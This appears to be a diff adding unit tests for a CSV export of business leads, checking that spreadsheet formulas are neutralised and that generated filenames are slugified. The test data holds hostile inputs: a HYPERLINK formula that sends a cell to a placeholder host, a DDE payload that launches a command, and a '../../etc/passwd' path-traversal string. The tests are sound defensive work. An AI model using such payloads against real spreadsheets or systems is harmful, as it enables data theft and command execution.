@@ -78,9 +78,59 @@ describe('buildLeadsCsv', () => {
   });
 });
 
+describe('buildLeadsCsv and formulas (issue #25 item 6)', () => {
+  it('writes a cell a spreadsheet would run as a formula as text, in every column', () => {
+    const hostile = lead({
+      name: '=HYPERLINK("https://x/?"&A2,"Open")',
+      address: '@SUM(1)',
+      phone: "+cmd|' /C calc'!A0",
+      website: '-2+3',
+      contacts: { emails: ['\t=1+1'], socials: { facebook: '\r=1+1' } },
+    });
+    const [, row] = buildLeadsCsv([hostile], { enriched: true }).split('\r\n');
+    expect(row).toBe(
+      `"'=HYPERLINK(""https://x/?""&A2,""Open"")","'@SUM(1)","'+cmd|' /C calc'!A0","'-2+3","4.5","120","'\t=1+1","'\r=1+1","","","","",""`,
+    );
+  });
+
+  it('keeps phone numbers and ratings as they are', () => {
+    const [, a, b] = buildLeadsCsv([lead({ phone: '+1 512-555-0100' }), lead({ phone: '(512) 555-0100', rating: 3 })]).split('\r\n');
+    expect(a).toBe('"Joe’s Diner","1 Main St","+1 512-555-0100","https://joes.example","4.5","120"');
+    expect(b).toBe('"Joe’s Diner","1 Main St","(512) 555-0100","https://joes.example","3","120"');
+  });
+
+  it('leaves the bytes of an ordinary file exactly as before', () => {
+    // Written by the CSV export before formulas were neutralised (commit 0ee6c0d).
+    const before =
+      '"Name","Address","Phone","Website","Rating","Reviews","Email","Facebook","Instagram","LinkedIn","X","YouTube","TikTok"\r\n' +
+      '"Joe’s Diner","1 Main St, Springfield, IL","+1 713 555 0100","https://joes.example","4.5","120","hello@joes.example","","https://instagram.com/joes","","","",""\r\n' +
+      '"The ""Best"" Pizza","Unit 4\nHarbor Rd","","","","","","","","","","",""';
+    const leads = [
+      lead({
+        address: '1 Main St, Springfield, IL',
+        phone: '+1 713 555 0100',
+        contacts: { emails: ['hello@joes.example'], socials: { instagram: 'https://instagram.com/joes' } },
+      }),
+      lead({ name: 'The "Best" Pizza', address: 'Unit 4\nHarbor Rd', phone: '', website: '', rating: undefined, reviewCount: undefined, placeId: 'p2' }),
+    ];
+    expect(buildLeadsCsv(leads, { enriched: true })).toBe(before);
+  });
+});
+
 describe('leadsCsvFilename', () => {
-  it('is leads-{businessType}-{timestamp}.csv', () => {
-    expect(leadsCsvFilename('dentist', new Date('2025-03-04T09:15:30.123Z'))).toBe('leads-dentist-2025-03-04T09-15-30.csv');
+  it('is leads-{businessType}-{location}-{timestamp}.csv, slugified', () => {
+    const at = new Date('2026-11-26T13:45:00.123Z');
+    expect(leadsCsvFilename({ businessType: 'dentist', location: 'Houston, TX' }, at)).toBe('leads-dentist-houston-tx-2026-11-26T13-45-00.csv');
+    expect(leadsCsvFilename({ businessType: 'real_estate_agency', location: '  Café Zürich / 8001 ' }, at)).toBe(
+      'leads-real-estate-agency-cafe-zurich-8001-2026-11-26T13-45-00.csv',
+    );
+  });
+
+  it('leaves out a location with nothing to keep, and never writes a path', () => {
+    const at = new Date('2025-03-04T09:15:30.123Z');
+    expect(leadsCsvFilename({ businessType: 'dentist', location: '' }, at)).toBe('leads-dentist-2025-03-04T09-15-30.csv');
+    expect(leadsCsvFilename({ businessType: 'cafe', location: '東京' }, at)).toBe('leads-cafe-2025-03-04T09-15-30.csv');
+    expect(leadsCsvFilename({ businessType: 'cafe', location: '../../etc/passwd' }, at)).toBe('leads-cafe-etc-passwd-2025-03-04T09-15-30.csv');
   });
 });
 
